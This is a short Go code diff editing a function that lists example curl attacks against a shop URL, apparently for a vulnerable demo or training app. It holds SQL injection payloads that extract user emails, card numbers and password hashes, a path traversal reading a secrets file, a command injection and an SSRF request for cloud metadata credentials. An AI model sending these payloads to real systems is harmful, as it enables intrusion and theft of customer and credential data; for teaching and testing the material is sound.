@@ -51,8 +51,7 @@ func protectionText(mode string) string {
 func examples(shop string) []string {
 	q := url.QueryEscape
 	return []string{
-		"curl '" + shop + "/search?q=" + q("zz' UNION SELECT id,name,email,card,1,1,'' FROM users-- -") + "'",
-		"curl '" + shop + "/product/" + url.PathEscape("0 UNION SELECT 1,email,'',password_hash,1,1,'' FROM users") + "'",
+		"curl '" + shop + "/search?q=" + q("zz' UNION SELECT id,name,1,email,card,1,1 FROM users--") + "'",
 		"curl '" + shop + "/image?file=../config/secrets.env'",
 		"curl '" + shop + "/health?host=" + q("localhost; id") + "'",
 		"curl '" + shop + "/preview?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/shop'",
